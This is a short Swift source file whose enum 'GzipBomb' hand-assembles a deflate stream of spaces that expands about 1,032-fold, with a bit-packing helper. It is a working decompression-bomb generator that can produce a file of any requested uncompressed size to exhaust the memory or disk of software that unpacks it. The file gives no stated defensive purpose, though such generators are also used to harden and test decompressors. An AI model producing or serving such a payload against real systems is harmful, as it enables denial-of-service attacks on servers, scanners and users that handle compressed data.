/// Spaces by the megabyte, compressed as far as deflate goes: one byte stands for 1,032 (RFC 1951).
enum GzipBomb {
    static func make(megabytes: Int) -> [UInt8] {
        var bits = BitWriter(bytes: [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3])
        // The last block, with codes of its own: 286 lengths of literals, one of distances, 18 of lengths.
        bits.put(1, 1)
        bits.put(2, 2)
        bits.put(29, 5)
        bits.put(0, 5)
        bits.put(14, 4)
        // In the order 16 17 18 0 8 7 9 6 10 5 11 4 12 3 13 2 14 1: 18 has one bit, 2 and 1 have two.
        for length in [0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 2] { bits.put(length, 3) }
        func zeros(_ count: Int) {
            bits.put(0, 1)
            bits.put(count - 11, 7)
        }
        zeros(32)
        bits.put(3, 2)
        zeros(138)
        zeros(85)
        bits.put(3, 2)
        zeros(28)
        bits.put(1, 2)
        bits.put(1, 2)
        // A space, then copies of 258 bytes from one byte before, each of two zero bits, then the end.
        bits.put(1, 2)
        bits.put(0, 7)
        bits.bytes += [UInt8](repeating: 0, count: megabytes * 1_048_576 / 1_032)
        bits.put(0, 1)
        bits.put(3, 2)
        bits.put(0, 5)
        return bits.bytes + [UInt8](repeating: 0, count: 8)
    }
}

private struct BitWriter {
    var bytes: [UInt8]
    private var buffer = 0
    private var used = 0

    init(bytes: [UInt8]) {
        self.bytes = bytes
    }

    /// From the lowest bit on.
    mutating func put(_ bits: Int, _ count: Int) {
        buffer |= bits << used
        used += count
        while used >= 8 {
            bytes.append(UInt8(buffer & 0xff))
            buffer >>= 8
            used -= 8
        }
    }
}
